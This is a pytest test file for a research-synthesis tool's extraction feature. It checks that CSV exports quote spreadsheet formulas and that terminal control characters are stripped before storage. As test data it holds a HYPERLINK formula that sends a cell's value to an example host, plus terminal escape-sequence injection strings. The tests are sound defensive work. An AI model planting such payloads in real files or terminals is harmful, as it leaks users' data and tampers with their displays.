"""Typed extraction values: a formula is quoted in the export and reads back; controls never stored."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from pathlib import Path

import pytest

from synthesist.services.extraction.csv_import import import_values
from synthesist.services.extraction.table import export_included_studies
from synthesist.services.extraction.values import included_extractions, set_value
from synthesist.workspace import Workspace

FORM = [{"name": "country"}, {"name": "findings", "type": "long_text"}]
FORMULA = '=HYPERLINK("http://example.org/?x="&A1)'


@pytest.fixture
def ws(studies: Workspace, with_form: Callable[..., Workspace]) -> Workspace:
    return with_form(studies, fields=FORM)


def _final(ws: Workspace, field: str) -> str | None:
    [study] = [s for s in included_extractions(ws) if s.label == "Cooper 2008"]
    return study.extraction.final_value(field)


def test_a_typed_formula_is_quoted_in_the_export_and_imports_back_unchanged(
    ws: Workspace, tmp_path: Path
) -> None:
    set_value(ws, "Cooper 2008", "country", FORMULA)
    set_value(ws, "Cooper 2008", "findings", "-3 points on the scale\n@everyone agreed")
    out = io.StringIO(newline="")
    export_included_studies(ws, out)
    cells = [cell for row in csv.reader(io.StringIO(out.getvalue())) for cell in row]
    assert "'" + FORMULA in cells and "'-3 points on the scale\n@everyone agreed" in cells
    path = tmp_path / "included.csv"
    path.write_text(out.getvalue(), encoding="utf-8", newline="")
    assert import_values(ws, path).changed == 0  # every value read back is the one stored
    assert _final(ws, "country") == FORMULA


def test_typed_control_characters_and_escape_sequences_are_not_stored(ws: Workspace) -> None:
    set_value(ws, "Cooper 2008", "country", "\x1b]0;owned\x07United \x1b[31mKingdom\x1b[0m\x9b2J\x00")
    set_value(ws, "Cooper 2008", "findings", "First\r\nsecond\x1b[2J\x7f\tline")
    assert _final(ws, "country") == "United Kingdom"  # the 8-bit CSI went with its "2J"
    assert _final(ws, "findings") == "First\nsecond\tline"
